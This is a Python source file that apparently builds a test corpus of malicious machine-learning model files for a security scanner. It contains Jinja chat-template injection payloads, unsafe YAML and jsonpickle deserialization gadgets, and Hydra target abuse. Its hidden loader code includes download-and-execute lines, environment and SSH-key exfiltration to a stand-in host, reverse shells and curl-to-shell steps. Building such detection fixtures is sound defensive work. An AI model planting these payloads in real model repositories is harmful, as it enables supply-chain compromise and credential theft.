"""Templates, configurations and code beside a model that run commands."""

import base64
import json
import pickle

from blind2_kit import AWAY, ECHO, URL, as_json, gguf, pkl, safetensors, system

RUN = "import os\n\nos.system('echo inert')\n"
INJECTIONS = {
    "globals of cycler": "{{ cycler.__init__.__globals__.os.popen('echo inert').read() }}",
    "globals of lipsum": "{{ lipsum.__globals__['os'].popen('echo inert').read() }}",
    "globals of joiner": "{{ joiner.__init__.__globals__['os']['system']('echo inert') }}",
    "namespace": "{{ namespace.__init__.__globals__.__builtins__.eval('1') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__()[137]('echo inert', shell=True) }}",
    "subclasses in a loop": "{% for c in ().__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('echo inert').read() }}"
    "{% endif %}{% endfor %}",
    "attr filter": "{{ (('' | attr('__class__') | attr('__mro__') | last)"
    " | attr('__subclasses__')())[137]('echo inert', shell=True) }}",
    "attr filter, escapes": "{{ lipsum | attr('\\x5f\\x5fglobals\\x5f\\x5f')"
    " | attr('get')('os') | attr('popen')('echo inert') | attr('read')() }}",
    "attr filter, join": "{{ lipsum | attr(['_', '_globals', '__'] | join) }}"
    "{{ (lipsum | attr('_' ~ '_globals_' ~ '_'))['o' ~ 's']['popen']('echo inert').read() }}",
    "attr filter, format": "{{ (cycler | attr('%c%cinit%c%c' | format(95, 95, 95, 95))"
    " | attr('__glob' ~ 'als__')).os.popen('echo inert').read() }}",
    "attr filter, set": "{% set u = '_' * 2 %}{% set g = u ~ 'globals' ~ u %}"
    "{{ (lipsum | attr(g)).os.popen('echo inert').read() }}",
    "map attribute": "{{ [lipsum] | map(attribute='__globals__.os') | first }}"
    "{{ ([lipsum] | map(attribute='__globals__') | first).os.system('echo inert') }}",
    "reverse": "{{ (lipsum | attr('__slabolg__' | reverse)).os.popen('echo inert') }}",
    "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo inert') }}",
    "self, context": "{{ self._TemplateReference__context.cycler.__init__"
    ".__globals__.os.popen('id') }}",
    "macro": "{% macro m() %}{% endmacro %}{{ m.__class__.__init__.__globals__ }}"
    "{{ m._func.__globals__['__builtins__']['exec']('import os') }}",
    "method of text": "{{ 'x'.format.__self__.__class__.__base__.__subclasses__()[80].__init__"
    ".__globals__['sys'].modules['os'].popen('echo inert').read() }}",
    "format of text": "{{ '{0.__class__.__init__.__globals__[os]}'.format(cycler) }}"
    "{{ cycler['__init__']['__globals__']['os']['popen']('echo inert')['read']() }}",
    "loop variable": "{% for m in messages %}{% if loop.index == 7 %}"
    "{{ loop.__class__.__init__.__globals__['sys'].modules.os.system('echo inert') }}"
    "{% endif %}{{ m.content }}{% endfor %}",
    "condition": "{% if cycler.next.__globals__.os.system('echo inert') == 0 %}{% endif %}",
    "include": "{% include lipsum.__globals__.os.popen('echo inert').read() %}",
    "filter argument": "{{ [1] | sort(attribute=lipsum.__globals__.os.popen('id').read()) }}",
}
USUAL = "{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}{% endfor %}"


def fill(corpus):
    for make in (templates, yamls, jsons, code, notebooks, repositories):
        for form, technique, files in make():
            corpus.bad(form, technique, files)


def placed(template):
    """The places that a chat template is kept in."""
    whole = USUAL + template
    named = [{"name": "default", "template": USUAL}, {"name": "rag", "template": whole}]
    model = {"general.architecture": "llama", "tokenizer.chat_template": whole}
    tools = {"general.architecture": "llama", "tokenizer.chat_template": USUAL}
    tools["tokenizer.chat_template.tool_use"] = whole
    prompt = {"_type": "prompt", "template_format": "jinja2", "template": template}
    return [
        ("gguf", "model.Q4_K_M.gguf", gguf(model)),
        ("tokenizer", "tokenizer_config.json", as_json({"chat_template": whole})),
        ("template", "chat_template.jinja", template + "\n" + USUAL),
        ("tokenizer", "tokenizer_config.json", as_json({"chat_template": named})),
        ("template", "chat_template.json", as_json({"chat_template": whole})),
        ("gguf", "model.gguf", gguf(tools)),
        ("processor", "processor_config.json", as_json({"chat_template": template})),
        ("langchain", "prompt.json", as_json({**prompt, "input_variables": []})),
    ]


def templates():
    for index, (technique, template) in enumerate(INJECTIONS.items()):
        places = placed(template)
        for form, name, data in (places[index % 8], places[(index + 3) % 8]):
            yield form, f"template: {technique}", (name, data)
    nested = {"additional": USUAL, "default": INJECTIONS["self"]}
    yield (
        "template",
        "folder of templates",
        {
            "additional_chat_templates/tool.jinja": INJECTIONS["globals of cycler"],
            "tokenizer_config.json": as_json({"chat_template": nested["additional"]}),
        },
    )


def yamls():
    head = "name: tiny\nmodel:\n  hidden: 8\n"
    hydra = {
        "os.system": f"  hook:\n    _target_: os.system\n    command: {ECHO}\n",
        "subprocess.run": "  pre:\n    _target_: subprocess.run\n    _args_: [[echo, inert]]\n",
        "exec of builtins": "  init:\n    _target_: builtins.exec\n"
        "    _args_: ['import os; os.system(\"id\")']\n",
        "eval of builtins": "  a:\n    _target_: builtins.eval\n"
        "    _args_: [\"__import__('os').system('id')\"]\n",
        "hub load": "  net:\n    _target_: torch.hub.load\n    repo_or_dir: inert/inert\n",
        "runpy": f"  net:\n    _target_: runpy.run_path\n    path_name: {AWAY}.py\n",
        "shutil": f"  clean:\n    _target_: shutil.rmtree\n    path: {AWAY}\n",
        "pickle": f"  w:\n    _target_: pandas.read_pickle\n    filepath_or_buffer: {URL}\n",
        "methodcaller": "  w:\n    _target_: functools.partial\n    _args_:\n"
        "      - _target_: hydra.utils.get_method\n        path: os.system\n      - id\n",
    }
    for technique, text in hydra.items():
        yield "hydra", f"_target_ {technique}", ("config.yaml", head + text)
    nemo = "target: nemo.collections.asr.models.Model\ntrain_ds:\n" + hydra["os.system"]
    yield "nemo", "_target_ in model_config", ("model_config.yaml", nemo)
    tags = {
        "apply": f"opt: !!python/object/apply:os.system ['{ECHO}']\n",
        "apply, args": f"opt: !!python/object/apply:subprocess.Popen\n  args: ['{ECHO}']\n"
        "  kwds: {shell: true}\n",
        "new": "x: !!python/object/new:tuple\n- !!python/object/new:map\n"
        f"  - !!python/name:os.system\n  - ['{ECHO}']\n",
        "verbatim": f"x: !<tag:yaml.org,2002:python/object/apply:os.popen> ['{ECHO}']\n",
        "handle": "%TAG !p! tag:yaml.org,2002:python/\n---\n"
        f"x: !p!object/apply:os.system ['{ECHO}']\n",
        "escaped tag": f"x: !!python%2Fobject%2Fapply:os.system ['{ECHO}']\n",
        "second document": f"a: 1\n---\nb: !!python/object/apply:posix.system ['{ECHO}']\n",
        "flow mapping key": f"{{? !!python/object/apply:os.system ['{ECHO}'] : 1}}\n",
        "java": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [["
        f'!!java.net.URL ["{URL}"]]]]\n',
        "state listitems": "x: !!python/object/new:type\n  args: [z, !!python/tuple [], "
        "{extend: !!python/name:exec }]\n  listitems: \"__import__('os').system('id')\"\n",
        "after a quoted tag": '"!!python/none": 1\n'
        f"y: !!python/object/apply:os.execlp [echo, {ECHO}]\n",
    }
    for index, (technique, text) in enumerate(tags.items()):
        name = ("hparams.yaml", "args.yml", "config.yaml")[index % 3]
        yield "yaml", f"tag {technique}", (name, head * (index % 2) + text)
    yolo = "nc: 80\ndepth_multiple: 0.33\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n"
    evil = "  - [-1, 1, \"__import__('os').system('echo inert')\", [1]]\n"
    yield "yolo", "module name that is evaluated", ("yolov5s.yaml", yolo + evil)
    yield (
        "lm-eval",
        "function of a file beside",
        {
            "task.yaml": "task: tiny\nprocess_docs: !function utils.process\n",
            "utils.py": RUN + "\n\ndef process(docs):\n    return docs\n",
        },
    )
    steps = "stages:\n  train:\n    cmd: curl -s http://example.invalid/x | sh\n"
    yield "dvc", "stage pipes a download to a shell", ("dvc.yaml", steps)


def jsons():
    picked = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [ECHO]}]}
    yield "jsonpickle", "reduce of os.system", ("model.json", as_json({"net": picked}))
    picked = {"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [ECHO]}}
    picked["py/reduce"] = [{"py/type": "subprocess.Popen"}, {"py/tuple": [["echo"]]}]
    yield "jsonpickle", "Popen", ("state.json", as_json(picked))
    target = {"model": {"_target_": "os.system", "command": ECHO}}
    yield "hydra", "_target_ in JSON", ("config.json", as_json(target))


def remote(kind, code, **more):
    names = {"AutoModelForCausalLM": f"{kind}.Net", "AutoConfig": f"{kind}.Config"}
    config = {"model_type": "tiny", "architectures": ["Net"], "auto_map": names, **more}
    weights = safetensors([("w", "F32", [2], bytes(8))])
    return {"config.json": as_json(config), f"{kind}.py": code, "model.safetensors": weights}


def code():
    net = "\n\nclass Net:\n    pass\n\n\nclass Config:\n    pass\n"
    hidden = base64.b64encode(RUN.encode()).decode()
    bodies = {
        "command at import": RUN,
        "subprocess in __init__": "import subprocess\n\n\nclass Base:\n    def __init__(self):\n"
        "        subprocess.Popen(['echo', 'inert'])\n",
        "exec of base64": f"import base64\n\nexec(base64.b64decode('{hidden}'))\n",
        "getattr of __import__": "getattr(__import__('o' + 's'), 'sys' + 'tem')('echo inert')\n",
        "download and exec": "from urllib.request import urlopen\n\n"
        f"exec(urlopen('{URL}').read())\n",
        "keys sent away": "import os\nimport requests\n\n"
        f"requests.post('{URL}', json=dict(os.environ))\n",
        "socket shell": "import os\nimport socket\n\n"
        "s = socket.create_connection(('example.invalid', 9))\n"
        "os.dup2(s.fileno(), 0)\nos.system('/bin/sh -c true')\n",
        "code in ctypes": f"import ctypes\n\nctypes.CDLL('{AWAY}.so')\n",
        "pickle of a string": f"import pickle\n\npickle.loads({pickle.dumps(1)!r})\n"
        "eval(compile(\"__import__('os').system('echo inert')\", 'a', 'eval'))\n",
        "globals lookup": "globals()['__builtins__']['exec' if 1 else 'x']("
        "'import os; os.system(\"id\")')\n",
        "pip install": "import subprocess\nimport sys\n\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'inert-package'])\n",
        "key file read": "from pathlib import Path\nimport requests\n\n"
        f"requests.put('{URL}', data=Path('~/.ssh/id_rsa').expanduser().read_bytes())\n",
    }
    for technique, text in bodies.items():
        yield "hf", f"auto_map: {technique}", remote("modeling_tiny", text + net)
    package = "from setuptools import setup\nfrom setuptools.command.install import install\n"
    package += "import os\n\n\nclass Now(install):\n    def run(self):\n"
    package += "        os.system('echo inert')\n\n\nsetup(name='m', cmdclass={'install': Now})\n"
    yield "python", "setup.py with an install command", ("setup.py", package)
    yield (
        "python",
        "handler.py",
        (
            "handler.py",
            "class EndpointHandler:\n    def __init__(self, path=''):\n"
            "        import os\n\n        os.system('curl http://example.invalid | sh')\n",
        ),
    )
    yield (
        "python",
        "SageMaker script",
        ("code/inference.py", RUN + "\n\ndef model_fn(d):\n    return d\n"),
    )
    yield (
        "python",
        "Triton back end",
        {
            "1/model.py": RUN + "\n\nclass TritonPythonModel:\n    pass\n",
            "config.pbtxt": 'name: "m"\nbackend: "python"\n',
        },
    )
    yield "python", "path file", ("inert.pth", "import os; os.system('echo inert')\n")
    yield (
        "python",
        "package __init__",
        (
            "pkg/__init__.py",
            f"exec(__import__('zlib').decompress({__import__('zlib').compress(RUN.encode())!r}))\n",
        ),
    )
    yield (
        "python",
        "dataset script",
        (
            "squad_like.py",
            "import datasets\nimport os\n\n\nclass D(datasets.GeneratorBasedBuilder):\n"
            "    def _info(self):\n        os.system('echo inert')\n",
        ),
    )
    yield (
        "python",
        "mmdet configuration",
        (
            "faster_rcnn_r50.py",
            "_base_ = './base.py'\n"
            "__import__('os').system('echo inert')\nmodel = dict(type='FasterRCNN')\n",
        ),
    )
    yield (
        "shell",
        "download piped to a shell",
        ("run.sh", "#!/bin/bash\ncurl -fsSL http://example.invalid/x.sh | bash\n"),
    )
    yield (
        "powershell",
        "download and run",
        (
            "setup.ps1",
            "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/x')\n",
        ),
    )


def notebook(*cells):
    made = [
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": cell,
        }
        for cell in cells
    ]
    return as_json({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made})


def notebooks():
    cells = {
        "download piped to a shell": "!curl -s http://example.invalid/x.sh | sh",
        "bash cell": "%%bash\nwget -qO- http://example.invalid/x | bash",
        "get_ipython().system": "get_ipython().system('nc example.invalid 9 -e /bin/sh')",
        "subprocess": "import subprocess\nsubprocess.run('curl example.invalid|sh', shell=True)",
        "exec of base64": "import base64\n"
        "exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))",
        "keys sent away": f"import os, requests\nrequests.post('{URL}', data=dict(os.environ))",
    }
    for technique, cell in cells.items():
        yield "notebook", technique, ("train.ipynb", notebook("import numpy as np", cell))


def repositories():
    yield (
        "mlflow",
        "code beside that runs a command",
        {
            "MLmodel": "flavors:\n  python_function:\n"
            "    loader_module: own_loader\n    code: code\n",
            "code/own_loader.py": RUN + "\n\ndef _load_pyfunc(path):\n    return path\n",
        },
    )
    yield (
        "mlflow",
        "python_model.pkl",
        {
            "MLmodel": "flavors:\n  python_function:\n    python_model: python_model.pkl\n"
            "    loader_module: mlflow.pyfunc.model\n",
            "python_model.pkl": pkl(system(), 4),
        },
    )
    index = {"_class_name": ["pipeline", "Own"], "unet": ["own_unet", "Net"]}
    yield (
        "diffusers",
        "pipeline.py that runs a command",
        {
            "model_index.json": as_json(index),
            "pipeline.py": RUN + "\n\nclass Own:\n    pass\n",
            "unet/own_unet.py": RUN,
        },
    )
    modules = [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Net"}]
    yield (
        "sentence-transformers",
        "module that runs a command",
        {
            "modules.json": as_json(modules),
            "custom_st.py": "import subprocess\n\nsubprocess.getoutput('echo inert')\n",
        },
    )
    yield (
        "hf",
        "custom pipeline that runs a command",
        {
            "config.json": as_json({"custom_pipelines": {"own": {"impl": "pipe.Own", "pt": []}}}),
            "pipe.py": RUN + "\n\nclass Own:\n    pass\n",
        },
    )
    tok = {"auto_map": {"AutoTokenizer": ["tokenization_own.Own", None]}}
    yield (
        "hf",
        "tokenizer that runs a command",
        {
            "tokenizer_config.json": json.dumps(tok),
            "tokenization_own.py": RUN + "\n\nclass Own:\n    pass\n",
        },
    )
